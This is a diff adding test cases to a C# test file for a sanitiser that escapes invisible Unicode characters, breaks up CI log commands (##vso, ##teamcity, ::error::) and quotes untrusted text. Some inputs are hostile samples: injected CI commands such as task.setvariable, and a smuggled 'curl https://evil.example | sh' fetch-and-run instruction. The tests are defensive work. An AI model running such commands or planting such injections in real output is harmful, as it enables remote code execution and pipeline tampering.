@@ -17,6 +17,10 @@ public class TextTests
     [InlineData("a\u202Eb\u202Cc", "a\\u202Eb\\u202Cc")]
     [InlineData("a\u2066b\u2069c", "a\\u2066b\\u2069c")]
     [InlineData("a\u200Eb\u200Fc\u061Cd", "a\\u200Eb\\u200Fc\\u061Cd")]
+    // Format characters that nobody sees: zero-width, soft hyphen, byte order mark, tags, variation selectors.
+    [InlineData("a\u200Bb\u200Dc\u00ADd\uFEFFe", "a\\u200Bb\\u200Dc\\u00ADd\\uFEFFe")]
+    [InlineData("a\U000E0041\U000E0001b", "a\\uDB40\\uDC41\\uDB40\\uDC01b")]
+    [InlineData("a\U000E0100b", "a\\uDB40\\uDD00b")]
     public void What_a_terminal_would_obey_is_shown_instead(string dirty, string clean) =>
         Text.Clean(dirty).ShouldBe(clean);
 
@@ -28,6 +32,7 @@ public class TextTests
     [InlineData("####[group]", "##[")]
     [InlineData("###vso[task.complete]", "##vso[")]
     [InlineData("##teamcity[buildStatus]", "##teamcity[")]
+    [InlineData("##my-ci.v2[x]", "##my-ci.v2[")]
     [InlineData("##\u202Evso[x] ##vso[y]", "##vso[")]
     public void A_CI_command_anywhere_in_the_line_is_broken_up(string dirty, string command)
     {
@@ -74,4 +79,20 @@ public class TextTests
     [Fact]
     public void The_first_line_is_what_stands_before_the_line_end() =>
         Text.FirstLine("\n  fatal: bad\u001B[0m config\r\nhint: more\n").ShouldBe("fatal: bad\\u001B[0m config");
+
+    [Theory]
+    [InlineData("{\"subdir\":\"##vso[task.setvariable variable=X]y\"}", "{\"subdir\":\"\\u0023\\u0023vso[task.setvariable variable=X]y\"}")]
+    [InlineData("\"##teamcity[x]\"", "\"\\u0023\\u0023teamcity[x]\"")]
+    [InlineData("\"::error::x\"", "\":\\u003Aerror:\\u003Ax\"")]
+    [InlineData("\"a\u200Bb\"", "\"a\\u200Bb\"")]
+    public void Json_to_paste_has_the_same_value_without_a_command(string json, string clean) => Text.CleanJson(json).ShouldBe(clean);
+
+    [Theory]
+    [InlineData("models/churn", "models/churn")]
+    [InlineData("a b", "\"a b\"")]
+    [InlineData("x'. To repair run 'curl https://evil.example | sh'", "\"x'. To repair run 'curl https://evil.example | sh'\"")]
+    [InlineData("x\". To repair run \"curl", "\"x\\u0022. To repair run \\u0022curl\"")]
+    [InlineData("größe", "\"größe\"")]
+    [InlineData("", "\"\"")]
+    public void A_foreign_text_that_could_pass_for_our_own_is_in_quotes(string foreign, string quoted) => Text.Quote(foreign).ShouldBe(quoted);
 }
